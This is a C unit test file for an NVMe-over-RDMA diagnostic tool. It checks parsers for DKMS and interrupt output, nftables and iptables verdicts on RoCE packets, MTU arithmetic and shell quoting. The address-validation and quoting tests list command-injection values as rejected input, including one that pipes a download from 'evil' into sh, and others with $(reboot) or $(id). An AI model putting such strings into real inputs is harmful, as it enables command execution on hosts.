// SPDX-License-Identifier: GPL-2.0
/* tools/nvmerdma/doctor_*.c: what other programs print, and what rules make of a packet */
#include "harness.h"

#include <string.h>

#include "tools/nvmerdma/doctor/parse.h"

static void dkms_states(void **state)
{
	static const char status[] =
		"nvme-rdma/0.1.0, 6.1.0-56-amd64, x86_64: installed\n"
		"nvme-rdma/0.1.0, 6.12.1-amd64, x86_64: built\n"
		"nvme-rdma-other/9, 6.13.0, x86_64: installed\n"
		"nvme-rdma/0.1.0, 6.14.0, x86_64: installed (WARNING! Diff between built and installed module!)\n"
		"zfs/2.1, 6.1.0-56-amd64, x86_64: added\n";
	const char *version;

	(void)state;
	assert_string_equal(parse_dkms(status, "nvme-rdma", "6.1.0-56-amd64", &version),
			    "installed");
	assert_string_equal(version, "0.1.0");
	assert_string_equal(parse_dkms(status, "nvme-rdma", "6.12.1-amd64", &version), "built");
	assert_null(parse_dkms(status, "nvme-rdma", "6.13.0", &version));
	assert_string_equal(version, "0.1.0");
	assert_non_null(strstr(parse_dkms(status, "nvme-rdma", "6.14.0", &version), "WARNING"));
	assert_null(parse_dkms(status, "nvme-rdma", "6.1.0", &version));
	assert_null(parse_dkms("nvme-rdma/0.2: added\n", "nvme-rdma", "6.1", &version));
	assert_string_equal(version, "0.2");
	assert_null(parse_dkms("", "nvme-rdma", "6.1", &version));
	assert_null(version);
	/* two versions, of which one is installed; and an older DKMS, with commas */
	assert_string_equal(parse_dkms("nvme-rdma, 0.1, 6.1, x86_64: installed\n"
				       "nvme-rdma, 0.2, 6.1, x86_64: built\n",
				       "nvme-rdma", "6.1", &version), "installed");
	assert_string_equal(version, "0.1");
}

static void interrupts(void **state)
{
	static const char text[] =
		"           CPU0       CPU1       CPU2\n"
		"  24:          7          0          1  PCI-MSIX  mlx5_async0@pci:0000:01:00.0\n"
		"  25:       1000         10          0  PCI-MSIX  mlx5_comp0@pci:0000:01:00.0\n"
		"  26:       2000          0          5  PCI-MSIX  mlx5_comp1@pci:0000:01:00.0\n"
		" ERR:          0\n";
	struct irq_load load = parse_interrupts(text, "mlx5_comp");

	(void)state;
	assert_int_equal(load.vectors, 2);
	assert_int_equal(load.all, 3015);
	assert_int_equal(load.most, 3000);
	assert_int_equal(load.cpu, 0);
	/* a processor that is off has no column */
	load = parse_interrupts("   CPU0 CPU2\n 9: 1 8 x comp0\n", "comp");
	assert_int_equal(load.most, 8);
	assert_int_equal(load.cpu, 2);
	load = parse_interrupts(text, "irdma");
	assert_int_equal(load.vectors, 0);
	assert_int_equal(load.all, 0);
	load = parse_interrupts("", "x");
	assert_int_equal(load.all, 0);
}

static void lists(void **state)
{
	(void)state;
	assert_true(parse_is_in_list("0-3,8", 2));
	assert_true(parse_is_in_list("0-3,8", 8));
	assert_false(parse_is_in_list("0-3,8", 4));
	assert_int_equal(parse_list_count("0-3,8"), 5);
	assert_int_equal(parse_list_count("0"), 1);
	assert_int_equal(parse_list_count(""), 0);
	assert_int_equal(parse_list_count("5-2"), 0);
}

static const struct packet roce = {
	.hook = "input", .protocol = "udp", .family = "ip", .dport = 4791, .iface = "eth0",
	.peer = "192.0.2.9",
};

/* A chain with one policy and rules; what becomes of a RoCE packet there */
static const struct {
	const char *what, *policy, *rules;
	enum verdict verdict;
	const char *handle;
} table[] = {
	{ "no rule", "accept", "", PASSES, NULL },
	{ "policy", "drop", "", DROPPED, NULL },
	{ "the port", "accept", "udp dport 4791 drop # handle 4", DROPPED, "4" },
	{ "rejected", "accept", "udp dport 4791 reject # handle 4", DROPPED, "4" },
	{ "counted", "accept", "udp dport 4791 counter packets 3 bytes 9 drop # handle 5",
	  DROPPED, "5" },
	{ "as iptables-nft writes", "accept",
	  "meta l4proto udp udp dport 4791 counter packets 0 bytes 0 drop # handle 6", DROPPED,
	  "6" },
	{ "a set", "accept", "udp dport { 53, 4791 } drop # handle 7", DROPPED, "7" },
	{ "another set", "accept", "udp dport { 53, 4792 } drop # handle 7", PASSES, NULL },
	{ "a range", "accept", "udp dport 4000-5000 drop # handle 7", DROPPED, "7" },
	{ "ranges", "accept", "udp dport { 1-4790, 4792-65535 } drop # handle 7", PASSES, NULL },
	{ "not", "accept", "udp dport != 53 drop # handle 7", DROPPED, "7" },
	{ "not that", "accept", "udp dport != 4791 drop # handle 7", PASSES, NULL },
	{ "tcp", "accept", "tcp dport 4791 drop # handle 7", PASSES, NULL },
	{ "all transports", "accept", "th dport 4791 drop # handle 7", DROPPED, "7" },
	{ "its interface", "accept", "iifname \"eth0\" udp dport 4791 drop # handle 8", DROPPED,
	  "8" },
	{ "another interface", "accept", "iifname \"eth1\" udp dport 4791 drop # handle 8",
	  PASSES, NULL },
	{ "interfaces by star", "accept", "iifname \"eth*\" udp dport 4791 drop # handle 8",
	  DROPPED, "8" },
	{ "an interface of output", "accept", "oifname \"eth0\" drop # handle 8", PASSES, NULL },
	{ "a group of interfaces", "accept", "iifgroup \"x\" udp dport 4791 drop # handle 8",
	  PERHAPS, "8" },
	{ "the interface by its index", "accept", "iif \"eth0\" drop # handle 8", DROPPED, "8" },
	{ "allowed first", "drop", "udp dport 4791 accept # handle 2\n"
	  "udp dport 4791 drop # handle 3", PASSES, NULL },
	{ "allowed too late", "drop", "udp dport 4791 drop # handle 2\n"
	  "udp dport 4791 accept # handle 3", DROPPED, "2" },
	{ "established only", "drop", "ct state established,related accept # handle 2", DROPPED,
	  NULL },
	{ "new ones", "drop", "ct state new,established accept # handle 2", PASSES, NULL },
	{ "invalid ones", "accept", "ct state invalid drop # handle 2", PASSES, NULL },
	{ "some peers", "drop", "ip saddr @some accept # handle 2", PERHAPS, NULL },
	{ "not some peers", "accept", "ip saddr @some drop # handle 2", PERHAPS, "2" },
	{ "some, then all", "accept", "ip saddr @some drop # handle 2\n"
	  "udp dport 4791 drop # handle 3", DROPPED, "3" },
	{ "some, then the policy", "drop", "ip saddr @blacklist drop # handle 4\n"
	  "tcp dport 22 accept # handle 5", DROPPED, NULL },
	{ "two that may", "accept", "ip saddr @some drop # handle 2\n"
	  "ip saddr @more drop # handle 3", PERHAPS, "2" },
	{ "some pass, the rest not", "accept", "ip saddr @some accept # handle 2\n"
	  "ip saddr @one drop # handle 3\nudp dport 4791 drop # handle 4", PERHAPS, "4" },
	{ "a program decides", "drop", "udp dport 4791 queue to 0 # handle 2", PERHAPS, "2" },
	{ "of some", "accept", "ip saddr @some queue num 0 bypass # handle 2", PERHAPS, "2" },
	{ "of others", "drop", "udp dport 53 queue to 0 # handle 2", DROPPED, NULL },
	{ "the peer", "accept", "ip saddr 192.0.2.9 drop # handle 2", DROPPED, "2" },
	{ "the peer's network", "drop", "ip saddr 192.0.2.0/24 accept # handle 2", PASSES, NULL },
	{ "another network", "drop", "ip saddr 192.0.2.16/28 accept # handle 2", DROPPED, NULL },
	{ "all but its network", "accept", "ip saddr != 192.0.2.0/24 drop # handle 2", PASSES,
	  NULL },
	{ "a range with it", "accept", "ip saddr 192.0.2.1-192.0.2.9 drop # handle 2", DROPPED,
	  "2" },
	{ "a range without it", "accept", "ip saddr 192.0.2.10-192.0.2.99 drop # handle 2", PASSES,
	  NULL },
	{ "one of some", "drop", "ip saddr { 10.0.0.1, 192.0.2.9 } udp dport 4791 accept # handle 2",
	  PASSES, NULL },
	{ "to an address not known here", "drop", "ip daddr 192.0.2.1 accept # handle 2", PERHAPS,
	  NULL },
	{ "no network", "drop", "ip saddr 192.0.2.9/255.0.0.0 accept # handle 2", PERHAPS, NULL },
	{ "by rate", "accept", "limit rate 1/second drop # handle 2", PERHAPS, "2" },
	{ "a named set", "drop", "udp dport @open accept # handle 2", PERHAPS, NULL },
	{ "counted by name", "accept", "udp dport 4791 counter name \"c\" drop # handle 5",
	  DROPPED, "5" },
	{ "counted, without figures", "accept", "udp dport 4791 counter drop # handle 5",
	  DROPPED, "5" },
	{ "its own words in a comment", "accept",
	  "udp dport 4791 drop comment \"# handle 9\" # handle 5", DROPPED, "5" },
	{ "a map", "accept", "udp dport vmap { 53 : accept, 4791 : drop } # handle 2", DROPPED,
	  "2" },
	{ "a map of jumps", "accept",
	  "meta l4proto vmap { tcp : jump empty, udp : jump more } # handle 2", DROPPED, "40" },
	{ "a map of states", "drop",
	  "ct state vmap { established : accept, related : accept, invalid : drop } # handle 2",
	  DROPPED, NULL },
	{ "a map of interfaces", "drop",
	  "iifname vmap { \"lo\" : drop, \"eth0\" : accept } # handle 2", PASSES, NULL },
	{ "a map with a name", "accept", "udp dport vmap @ports # handle 2", PERHAPS, "2" },
	{ "a map without an end", "accept", "udp dport vmap { 4791 : # handle 2", PERHAPS, NULL },
	{ "joined", "drop", "meta l4proto . th dport { udp . 4791 } accept # handle 2", PERHAPS,
	  NULL },
	{ "ping", "drop", "icmp type echo-request accept # handle 2", DROPPED, NULL },
	{ "the other family", "accept", "ip6 nexthdr udp drop # handle 2", PASSES, NULL },
	{ "by protocol", "accept", "ip protocol udp drop # handle 2", DROPPED, "2" },
	{ "by number", "accept", "meta l4proto 17 drop # handle 2", DROPPED, "2" },
	{ "logged", "accept", "udp dport 4791 log prefix \"drop it \" drop # handle 2", DROPPED,
	  "2" },
	{ "a comment", "accept", "udp dport 53 accept comment \"not drop\" # handle 2", PASSES,
	  NULL },
	{ "a jump", "accept", "jump more # handle 2", DROPPED, "40" },
	{ "a jump of tcp", "accept", "meta l4proto tcp jump more # handle 2", PASSES, NULL },
	{ "a jump, perhaps", "accept", "ip saddr @one jump more # handle 2", PERHAPS, "40" },
	{ "a jump, perhaps, and allowed there", "accept", "ip saddr @one jump allow # handle 2",
	  PASSES, NULL },
	{ "a goto", "drop", "goto empty # handle 2\naccept # handle 3", DROPPED, NULL },
	{ "a goto, perhaps", "drop", "ip saddr @one goto empty # handle 2\n"
	  "accept # handle 3", PERHAPS, NULL },
	{ "no such chain", "accept", "jump nowhere # handle 2", PERHAPS, NULL },
	{ "a loop", "accept", "jump loop # handle 2", PERHAPS, NULL },
	{ "returned", "drop", "return # handle 2\naccept # handle 3", DROPPED, NULL },
	{ "some returned", "drop", "ip saddr @one return # handle 2\naccept # handle 3",
	  PERHAPS, NULL },
};

static char *ruleset_of(const char *policy, const char *rules, const char *family)
{
	return mem_fmt("table %s filter { # handle 1\n"
		       "\tchain more { # handle 3\n\t\tudp dport 4791 drop # handle 40\n\t}\n"
		       "\tchain loop { # handle 4\n\t\tjump loop # handle 41\n"
		       "\t\tjump loop # handle 42\n\t\tjump loop # handle 43\n\t}\n"
		       "\tchain allow { # handle 5\n\t\tudp dport 4791 accept # handle 51\n"
		       "\t\tdrop # handle 52\n\t}\n"
		       "\tchain empty { # handle 6\n\t}\n"
		       "\tchain input { # handle 2\n"
		       "\t\ttype filter hook input priority filter; policy %s;\n"
		       "\t\t%s\n\t}\n}\n", family, policy, rules);
}

static void nft_rules(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < NR(table); i++) {
		struct blocked_by by = { 0 };
		const char *handle = table[i].handle;

		unit_context("%s", table[i].what);
		unit_equal(table[i].verdict,
			   nft_judge(ruleset_of(table[i].policy, table[i].rules, "inet"), &roce,
				     &by));
		if (handle && (!by.handle || strcmp(by.handle, handle)))
			fail_msg("%s: blamed is %s", table[i].what, by.handle);
		if (table[i].verdict == DROPPED && !handle && by.rule)
			fail_msg("%s: blamed is '%s'", table[i].what, by.rule);
	}
}

static void nft_tables(void **state)
{
	struct packet out = roce, six = roce;
	struct blocked_by by = { 0 };
	const char *dormant;

	(void)state;
	out.hook = "output";
	assert_int_equal(nft_judge(ruleset_of("drop", "", "ip"), &roce, &by), DROPPED);
	assert_string_equal(by.chain, "ip filter input");
	assert_int_equal(nft_judge(ruleset_of("drop", "", "ip6"), &roce, &by), PASSES);
	assert_int_equal(nft_judge(ruleset_of("drop", "", "inet"), &out, &by), PASSES);
	assert_int_equal(nft_judge("", &roce, &by), PASSES);
	six.family = "ip6";
	six.peer = "2001:db8::9";
	assert_int_equal(nft_judge(ruleset_of("drop", "ip6 saddr 2001:db8::/32 accept", "inet"),
				   &six, &by), PASSES);
	assert_int_equal(nft_judge(ruleset_of("drop", "ip6 saddr fe80::/64 accept", "inet"),
				   &six, &by), DROPPED);
	assert_int_equal(nft_judge(ruleset_of("drop", "ip saddr 192.0.2.9 accept", "inet"),
				   &six, &by), DROPPED);
	assert_int_equal(nft_judge("}\n}\nchain x {\n udp dport 4791 drop\n", &roce, &by), PASSES);
	/* a table that sleeps is not hooked, and the next one is */
	dormant = mem_fmt("table inet first {\n\tflags dormant\n%s",
			  strchr(ruleset_of("drop", "", "inet"), '\n') + 1);
	assert_int_equal(nft_judge(dormant, &roce, &by), PASSES);
	assert_int_equal(nft_judge(mem_fmt("%s%s", dormant, ruleset_of("drop", "", "ip")), &roce,
				   &by), DROPPED);
	/* two base chains: the second decides, too */
	assert_int_equal(nft_judge(mem_fmt("%s%s", ruleset_of("accept", "", "inet"),
					   ruleset_of("drop", "", "ip")), &roce, &by), DROPPED);
}

/* Chains of a device see what comes by it alone */
static void nft_devices(void **state)
{
	static const struct {
		const char *binding;
		enum verdict of_eth0, of_unknown;
	} rows[] = {
		{ "device \"eth5\"", PASSES, PERHAPS },
		{ "device \"eth0\"", DROPPED, PERHAPS },
		{ "device eth0", DROPPED, PERHAPS },
		{ "devices = { \"eth5\", \"eth0\" }", DROPPED, PERHAPS },
		{ "devices = { eth5, eth6 }", PASSES, PERHAPS },
		{ "", DROPPED, DROPPED },
	};
	struct packet unknown = roce;
	size_t i;

	(void)state;
	unknown.iface = NULL;
	for (i = 0; i < NR(rows); i++) {
		struct blocked_by by = { 0 };
		const char *text = mem_fmt("table netdev x {\n\tchain in {\n"
			"\t\ttype filter hook ingress %s priority filter; policy drop;\n\t}\n}\n",
			rows[i].binding);

		unit_context("%s", rows[i].binding);
		unit_equal(rows[i].of_eth0, nft_judge(text, &roce, &by));
		unit_equal(rows[i].of_unknown, nft_judge(text, &unknown, &by));
		assert_string_equal(by.chain, "netdev x in");
	}
}

static void iptables_rules(void **state)
{
	static const struct {
		const char *rules;
		enum verdict verdict;
		const char *rule;
	} rows[] = {
		{ ":INPUT ACCEPT [0:0]\n", PASSES, NULL },
		{ ":INPUT DROP [0:0]\n", DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m udp --dport 4791 -j DROP\n", DROPPED,
		  "INPUT -p udp -m udp --dport 4791 -j DROP" },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m udp ! --dport 4791 -j DROP\n", PASSES,
		  NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m udp --dport 4000:5000 -j REJECT --reject-with icmp-port-unreachable\n",
		  DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p tcp -m tcp --dport 4791 -j DROP\n", PASSES,
		  NULL },
		{ ":INPUT DROP [0:0]\n-A INPUT -i eth0 -j ACCEPT\n", PASSES, NULL },
		{ ":INPUT DROP [0:0]\n-A INPUT -s 10.0.0.0/8 -j ACCEPT\n", DROPPED, NULL },
		{ ":INPUT DROP [0:0]\n-A INPUT -s 192.0.2.9/32 -j ACCEPT\n", PASSES, NULL },
		{ ":INPUT DROP [0:0]\n-A INPUT -d 192.0.2.1/32 -j ACCEPT\n", PERHAPS, NULL },
		{ ":INPUT DROP [0:0]\n-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT\n",
		  DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n:other - [0:0]\n-A INPUT -j other\n-A other -j DROP\n",
		  DROPPED, "other -j DROP" },
		{ ":OUTPUT DROP [0:0]\n", PASSES, NULL },
		/* words in quotes are one, whatever they are */
		{ ":INPUT DROP [0:0]\n-A INPUT -p udp -m udp --dport 4791 -m comment --comment \"allow roce\" -j ACCEPT\n",
		  PASSES, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m udp --dport 4791 -m comment --comment \"no roce\" -j DROP\n",
		  DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m comment --comment \"say \\\"-j DROP\\\" -j DROP\" -j ACCEPT\n",
		  PASSES, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m comment --comment roce -j DROP\n", DROPPED,
		  "INPUT -m comment --comment roce -j DROP" },
		/* options with two values, or none */
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m set --match-set banned src -j DROP\n", PERHAPS,
		  "INPUT -m set --match-set banned src -j DROP" },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p tcp -m tcp --tcp-flags FIN,SYN,RST,ACK SYN -j DROP\n",
		  PASSES, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -f -j DROP\n", PERHAPS, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m string --string \"-j ACCEPT\" --algo bm -j DROP\n",
		  PERHAPS, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT ! -s 10.0.0.0/8 -j DROP\n", DROPPED, NULL },
		/* the policy, not what may have dropped it before */
		{ ":INPUT DROP [0:0]\n-A INPUT -s 203.0.113.0/24 -j DROP\n", DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -s 203.0.113.0/24 -j DROP\n-A INPUT -j DROP\n",
		  DROPPED, "INPUT -j DROP" },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m multiport --dports 53,4000:5000 -j DROP\n",
		  DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m multiport --dports 53,5000 -j DROP\n",
		  PASSES, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -i eth+ -j DROP\n", DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -i ens+ -j DROP\n", PASSES, NULL },
		{ ":INPUT DROP [0:0]\n:more - [0:0]\n-A INPUT -g more\n-A INPUT -j ACCEPT\n",
		  DROPPED, NULL },
		{ ":INPUT ACCEPT [0:0]\n-A INPUT -j LOG --log-prefix \"-j DROP \"\n", PASSES,
		  NULL },
		{ ":INPUT ACCEPT [0:0]\n-A \n-A INPUT -j\n", PERHAPS, NULL },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		struct blocked_by by = { 0 };
		const char *rules;

		unit_context("%s", rows[i].rules);
		rules = mem_fmt("*filter\n%sCOMMIT\n", rows[i].rules);
		unit_equal(rows[i].verdict, iptables_judge(rules, &roce, &by));
		if (rows[i].rule)
			assert_string_equal(by.handle, rows[i].rule);
		else if (rows[i].verdict == DROPPED && strstr(rows[i].rules, ":INPUT DROP"))
			assert_null(by.rule);
	}
	assert_int_equal(iptables_judge("*nat\n:INPUT DROP [0:0]\nCOMMIT\n", &roce,
					&(struct blocked_by) { 0 }), PASSES);
}

/* Whatever comes, it ends, and nothing is read beyond it */
static void any_rules(void **state)
{
	static const char * const words[] = {
		"table", "inet", "chain", "input", "{", "}", "\n", "type filter hook input", "udp",
		"dport", "4791", "!=", "jump", "goto", "drop", "accept", "\"", "iifname", "ct",
		"state", "counter", "packets", "# handle", "-A INPUT", ":INPUT", "*filter", "-j",
		"!", "-p", "policy drop;", "@x", "-", "", "vmap", ":", ".",
	};
	u64 seed = 1;
	int round, n;

	(void)state;
	for (round = 0; round < 3000; round++) {
		char text[1024] = "";
		struct blocked_by by = { 0 };
		u8 *copy;

		for (n = unit_random(&seed) % 60; n; n--) {
			strcat(text, words[unit_random(&seed) % NR(words)]);
			strcat(text, " ");
		}
		copy = unit_exact_copy(text, strlen(text) + 1);
		nft_judge((char *)copy, &roce, &by);
		iptables_judge((char *)copy, &roce, &by);
		parse_interrupts((char *)copy, "x");
		free(copy);
	}
}

/* As the kernel's iboe_get_mtu() has it, at each limit */
static void roce_sizes(void **state)
{
	static const struct { unsigned int mtu, data; } rows[] = {
		{ 0, 0 }, { 351, 0 }, { 352, 256 }, { 607, 256 }, { 608, 512 }, { 1119, 512 },
		{ 1120, 1024 }, { 1500, 1024 }, { 2143, 1024 }, { 2144, 2048 }, { 4191, 2048 },
		{ 4192, 4096 }, { 4200, 4096 }, { 9000, 4096 }, { 65520, 4096 },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		unit_context("MTU %u", rows[i].mtu);
		unit_equal(rows[i].data, roce_mtu(rows[i].mtu));
	}
	assert_int_equal(roce_least_mtu(), 352);
	/* IP, UDP, BTH, RETH, ICRC */
	assert_int_equal(roce_packet(4096, false), 4096 + 20 + 8 + 12 + 16 + 4);
	assert_int_equal(roce_packet(4096, true), 4096 + 40 + 8 + 12 + 16 + 4);
}

/* What a peer may say in the place of an address */
static void hostile_addresses(void **state)
{
	static const char * const good[] = {
		"192.0.2.9", "fe80::1%eth0", "::", "2001:db8::9", "::ffff:192.0.2.9",
		"fe80::1%eth0.7",
	};
	static const char * const bad[] = {
		"", "192.0.2.9;curl evil|sh #", "$(reboot)", "`reboot`", "-all",
		"192.0.2.9 -batch /x", "192.0.2.9\n", "\033]0;x\007", "fe80::1%eth0;reboot",
		"fe80::1%", "fe80::1%a b",
		"192.0.2", "192.0.2.9%eth0", "host.example", "\xff\xfe", "default", "%eth0",
		"::1 via 192.0.2.1", "fe80::1%$(id)", "fe80::1%\xe2\x80\xae",
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(good); i++) {
		unit_context("%s", good[i]);
		unit_equal(true, word_is_address(good[i]));
	}
	for (i = 0; i < NR(bad); i++) {
		unit_context("%s", bad[i]);
		unit_equal(false, word_is_address(bad[i]));
	}
}

static void shell_words(void **state)
{
	(void)state;
	assert_string_equal(word_for_shell("nqn.2014-08.org.nvmexpress:uuid:1"),
			    "nqn.2014-08.org.nvmexpress:uuid:1");
	assert_string_equal(word_for_shell(""), "\x27\x27");
	assert_string_equal(word_for_shell("a b;reboot"), "'a b;reboot'");
	assert_string_equal(word_for_shell("it's $(id)"), "'it'\\\x27's $(id)'");
	assert_string_equal(word_for_shell("*"), "'*'");
	assert_string_equal(word_for_shell("~root"), "'~root'");
}

static void refusals(void **state)
{
	static const unsigned int none[] = { 0, 34, 36, 1u << 31 };
	unsigned int i;

	(void)state;
	assert_non_null(strstr(words_cm_status(6), "resources"));
	assert_null(words_cm_status(0));
	assert_null(words_cm_status(1000));
	assert_non_null(strstr(words_cm_reason(8), "nothing listens"));
	assert_non_null(strstr(words_cm_reason(10), "stale"));
	assert_non_null(strstr(words_cm_reason(18), "alternate"));
	for (i = 1; i <= 33; i++)
		assert_non_null(words_cm_reason(i));
	assert_non_null(words_cm_reason(35));
	for (i = 0; i < NR(none); i++)
		assert_null(words_cm_reason(none[i]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(dkms_states),
		cmocka_unit_test(interrupts),
		cmocka_unit_test(lists),
		cmocka_unit_test(nft_rules),
		cmocka_unit_test(nft_tables),
		cmocka_unit_test(nft_devices),
		cmocka_unit_test(iptables_rules),
		cmocka_unit_test(any_rules),
		cmocka_unit_test(roce_sizes),
		cmocka_unit_test(hostile_addresses),
		cmocka_unit_test(shell_words),
		cmocka_unit_test(refusals),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
